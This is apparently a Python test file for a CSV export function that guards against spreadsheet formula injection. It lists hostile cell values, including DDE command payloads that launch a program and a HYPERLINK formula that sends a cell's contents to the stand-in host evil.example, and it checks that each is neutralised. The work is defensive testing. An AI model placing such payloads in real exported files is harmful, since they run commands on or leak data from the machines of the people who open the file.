"""A table opened in a spreadsheet shows text and carries out nothing."""

import csv
import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.figures.spreadsheets import BYTE_ORDER_MARK, harmless, table

CORPUS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n@x",
    " =1+1",
    "\xa0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    '"=1+1',
    "'=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "\x1f=1+1",
    "\x85=1+1",
    "\ufe66(1)",
    "\tinnocent",
    "\rinnocent",
)


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))


@pytest.mark.parametrize("hostile", CORPUS)
def test_no_formula_survives(hostile: str) -> None:
    """Each of these reaches the file as text: an apostrophe stands in front, whatever was to be passed over."""
    ((_, cell),) = _read(table(("group", hostile), []))
    assert cell.startswith("'")
    assert "\x00" not in cell
    assert cell.removeprefix("'") == hostile.replace("\x00", "")


@given(st.text())
def test_whatever_somebody_wrote(text: str) -> None:
    """No cell begins with the sign of a formula, in any width and behind anything invisible; what is harmless stays as it was."""
    ((cell,),) = _read(table((text,), [])) if text else ([""],)
    seen = "".join(
        each for each in unicodedata.normalize("NFKC", cell) if not each.isspace() and unicodedata.category(each) not in ("Cc", "Cf")
    )
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
    assert seen[:1] not in ("=", "+", "@") or cell.startswith("'")
    assert harmless("Network") == "Network"


def test_numbers_stay_numbers() -> None:
    """Negative ones too: they are ours, and a sum over a column must work."""
    assert _read(table(("a", "b"), [("x", -1.5), ("y", None)])) == [["a", "b"], ["x", "-1.5"], ["y", ""]]


def test_lines_and_quotes_inside_a_cell_stay_inside() -> None:
    """RFC 4180: what somebody wrote makes no new row or column."""
    text = 'a,b\r\nc"d'
    assert _read(table((text, "second"), [])) == [[text, "second"]]
